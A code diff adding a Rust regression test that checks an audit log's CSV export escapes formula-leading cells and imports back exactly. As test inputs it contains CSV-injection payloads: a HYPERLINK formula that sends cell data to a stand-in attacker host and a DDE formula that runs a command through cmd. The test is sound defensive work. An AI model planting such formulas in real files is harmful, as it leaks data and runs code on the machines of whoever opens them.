@@ -117,6 +117,83 @@ fn hawk_exports_import_into_a_new_log_unchanged() {
     }
 }
 
+// Regression: CSV cells starting with `=`, `+`, `-` or `@` were exported as they were,
+// so a spreadsheet opening the export ran them as formulas.
+#[test]
+fn csv_export_escapes_formulas_and_imports_back_exactly() {
+    let log = Log::new();
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    let dde = "=cmd|' /C calc'!A0";
+    log.track(
+        "=1+1",
+        &[
+            "--actor-type",
+            "@user",
+            &format!("--actor-id={hyperlink}"),
+            "--account",
+            "'quoted",
+            "--metadata",
+            r#"{"f":"=1+1","g":["-2","@x"],"h":"'"}"#,
+        ],
+    );
+    log.track(
+        "doc.read",
+        &[
+            "--resource-type",
+            "+doc",
+            &format!("--resource-id={dde}"),
+            "--account=-5",
+        ],
+    );
+    log.track("''", &["--actor-type", "user", "--actor-id", "'=already"]);
+    let original = log.all();
+
+    let csv_file = log.path("export.csv");
+    log.ok(&[
+        "export",
+        "--format",
+        "csv",
+        "-o",
+        csv_file.to_str().unwrap(),
+    ]);
+    let csv = std::fs::read_to_string(&csv_file).unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    let cells = |i: usize| rows[i].iter().collect::<Vec<_>>();
+    // id, actor_id, actor_type, action, resource_id, resource_type, inserted_at, …
+    assert_eq!(
+        cells(0)[1..4],
+        [format!("'{hyperlink}").as_str(), "'@user", "'=1+1"]
+    );
+    assert_eq!(cells(0)[7], "''quoted");
+    assert_eq!(cells(1)[4..6], [format!("'{dde}").as_str(), "'+doc"]);
+    assert_eq!(cells(1)[7], "'-5");
+    assert_eq!(cells(2)[1], "''=already");
+    assert_eq!(cells(2)[3], "'''");
+    // The metadata is a JSON object, which starts with `{`: its strings are left alone.
+    assert_eq!(cells(0)[8], r#"{"f":"=1+1","g":["-2","@x"],"h":"'"}"#);
+
+    // NDJSON is not for spreadsheets: values are written exactly as they are.
+    let ndjson = log.ok(&["export", "--format", "ndjson"]);
+    assert!(ndjson.contains(r#""action":"=1+1""#), "{ndjson}");
+    assert!(ndjson.contains(r#""account_id":"-5""#), "{ndjson}");
+
+    let copy = Log::new();
+    copy.ok(&["import", csv_file.to_str().unwrap()]);
+    // Same ids, times and fields, metadata included, so the same leaf hashes too.
+    assert_eq!(copy.all(), original);
+    let out = copy.ok(&["verify"]);
+    assert!(out.starts_with("intact: 3 entries"), "{out}");
+}
+
 #[test]
 fn bad_records_are_named_and_write_nothing() {
     let log = Log::new();
